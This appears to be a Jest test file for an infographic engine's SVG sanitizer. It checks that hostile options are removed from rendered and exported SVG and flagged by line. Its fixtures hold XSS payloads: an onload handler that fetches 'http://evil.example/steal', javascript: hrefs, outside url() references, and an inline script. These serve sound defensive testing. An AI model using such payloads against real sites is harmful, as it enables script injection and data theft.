import '../support/networkSpy';
import fc from 'fast-check';
import { createEngine } from '../../../src/engine/engine';
import { scrubPicture } from '../../../src/engine/draw/svgSanitizer';
import { FUZZ_SEED } from '../../fuzz/fuzzRun';
import { hostileOptionsArb } from '../../support/hostileInput';
import { unsafeParts } from '../../support/unsafeSvg';
import type { Source } from '../../../src/engine/types';

const engine = createEngine();
const T = 'list-row-simple-horizontal-arrow';

/** The attack run's spec: the root <svg>'s onload, written the ways a text filter lets through. */
const ISSUE_SPEC = {
  template: T,
  data: { title: 'Quarterly plan', lists: [{ label: 'Plan' }, { label: 'Do' }] },
  svg: {
    attributes: {
      onload: "document.title='PWNED';fetch`http://evil.example/steal`",
      'xlink:href': 'javascript:alert(1)',
      style: 'background:url(http://evil.example/bg.png)',
      role: 'img',
      'data-owner': 'team',
      'font-family': 'serif',
    },
    style: { backgroundImage: 'url(//evil.example/a.png)', cssText: 'background:url(http://evil.example/b)', color: 'red' },
  },
};

async function drawn(spec: unknown) {
  const container = document.createElement('div');
  document.body.appendChild(container);
  const handle = engine.render(container, spec as Source);
  await handle.whenLoaded();
  return { handle, done: () => (handle.destroy(), container.remove()) };
}

async function exported(spec: unknown): Promise<Element> {
  const { handle, done } = await drawn(spec);
  const text = await (await engine.exportSVG(handle)).blob.text();
  done();
  // the carried source is text inside <metadata>, never drawn: the picture is everything else
  return new DOMParser().parseFromString(text, 'image/svg+xml').documentElement;
}

test("the attack run's svg.attributes reach neither the picture nor its SVG export, and each is named at its JSON line", async () => {
  const source = JSON.stringify(ISSUE_SPEC, null, 2);
  const { handle, done } = await drawn(source);
  const root = handle.svg!;
  expect(root.getAttribute('onload')).toBeNull();
  expect(root.outerHTML).not.toMatch(/evil\.example|PWNED|javascript:/);
  expect(unsafeParts(root)).toEqual([]);
  // what is harmless stays
  expect(root.getAttribute('data-owner')).toBe('team');
  expect(root.getAttribute('font-family')).toBe('serif');
  expect(root.style.color).toBe('red');
  const warnings = handle.diagnostics.filter((d) => d.code === 'unsafe_option');
  expect(warnings.map((d) => d.path).sort()).toEqual(
    [
      'svg.attributes.onload',
      'svg.attributes.role',
      'svg.attributes.style',
      'svg.attributes.xlink:href',
      'svg.style.backgroundImage',
      'svg.style.cssText',
    ].sort(),
  );
  const lines = source.split('\n');
  for (const warning of warnings) {
    const key = warning.path!.split('.').pop()!;
    expect({ path: warning.path, line: lines[warning.line! - 1]!.trim().startsWith(`"${key}"`) }).toEqual({
      path: warning.path,
      line: true,
    });
  }
  expect(warnings.find((d) => d.path === 'svg.attributes.onload')!.message).toMatch(
    /svg\.attributes\.onload \("document\.title.*event handler/,
  );
  expect(handle.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
  done();
  const file = await exported(ISSUE_SPEC);
  expect(file.getAttribute('onload')).toBeNull();
  expect(unsafeParts(file)).toEqual([]);
  expect(file.outerHTML.replace(/<metadata[\s\S]*<\/metadata>/, '')).not.toMatch(/evil\.example|PWNED|javascript:/);
});

test('the theme block of the text syntax cannot put a handler or an outside url() on the drawn text, and says so at the line', async () => {
  const source = [
    `infographic ${T}`,
    'data',
    '  title Plan',
    '  lists',
    '    - label One',
    '    - label Two',
    'theme',
    '  base',
    '    text',
    '      onclick alert(1)',
    '      filter url(evil.svg)',
    '      font-size 14',
    '  item',
    '    icon',
    '      href javascript:alert(1)',
  ].join('\n');
  const result = engine.validate(source);
  const warnings = result.diagnostics.filter((d) => d.code === 'unsafe_option');
  expect(warnings.map((d) => [d.path, d.line])).toEqual([
    ['themeConfig.base.text.onclick', 10],
    ['themeConfig.base.text.filter', 11],
    ['themeConfig.item.icon.href', 15],
  ]);
  const { handle, done } = await drawn(source);
  expect(unsafeParts(handle.svg!)).toEqual([]);
  expect(handle.svg!.outerHTML).not.toMatch(/evil\.svg|alert\(/);
  done();
});

test('harmless options get no warning and are drawn as given', async () => {
  const spec = {
    template: T,
    data: { title: 'Plan', lists: [{ label: 'One', attributes: { label: { fill: '#ff0000' } } }, { label: 'Two' }] },
    themeConfig: { colorBg: '#fafafa', palette: ['#123456', '#654321'], base: { text: { 'font-size': 14 } } },
    svg: { attributes: { 'data-x': '1', 'aria-label': 'Plan' }, style: { borderRadius: '4px' } },
  };
  expect(engine.validate(spec).diagnostics.filter((d) => d.code === 'unsafe_option')).toEqual([]);
  const { handle, done } = await drawn(spec);
  expect(handle.svg!.getAttribute('data-x')).toBe('1');
  // the item's own label colour (the library draws labels as HTML in a foreignObject)
  expect(handle.svg!.querySelector('span[style*="color: rgb(255, 0, 0)"]')).not.toBeNull();
  done();
});

test('the export scrub removes what the library could have drawn from options, and keeps the picture', () => {
  const doc = new DOMParser().parseFromString(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="x()">
      <a href="javascript:x()"><rect width="1" height="1" style="fill:url(http://evil.test/a)"/></a>
      <use href="#icon"/><image xlink:href="http://evil.test/i.png"/><script>x()</script>
      <set attributeName="href" to="javascript:x()"/><circle fill="url(#g)" r="1"/>
    </svg>`,
    'image/svg+xml',
  );
  const removed = scrubPicture(doc.documentElement);
  expect(unsafeParts(doc.documentElement).filter((p) => !p.startsWith('<style'))).toEqual([]);
  expect(removed.length).toBeGreaterThanOrEqual(6);
  expect(doc.querySelector('use')!.getAttribute('href')).toBe('#icon');
  expect(doc.querySelector('circle')!.getAttribute('fill')).toBe('url(#g)');
});

// fast-check: hostile attribute sets in every place the options reach an element (test/support/hostileInput.ts)
const FUZZ_RENDERS = 40;

test(`fuzz: ${FUZZ_RENDERS} specs with hostile options draw an inert picture and export an inert file`, async () => {
  await fc.assert(
    fc.asyncProperty(hostileOptionsArb(), async (spec) => {
      const { handle, done } = await drawn(spec);
      expect(handle.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
      expect(unsafeParts(handle.svg!)).toEqual([]);
      const text = await (await engine.exportSVG(handle)).blob.text();
      done();
      const file = new DOMParser().parseFromString(text, 'image/svg+xml').documentElement;
      expect(unsafeParts(file).filter((p) => p !== '<style>')).toEqual([]);
      expect(text.replace(/<metadata[\s\S]*<\/metadata>/, '')).not.toMatch(/evil\.test|alert\(/);
    }),
    { seed: FUZZ_SEED, numRuns: FUZZ_RENDERS },
  );
});
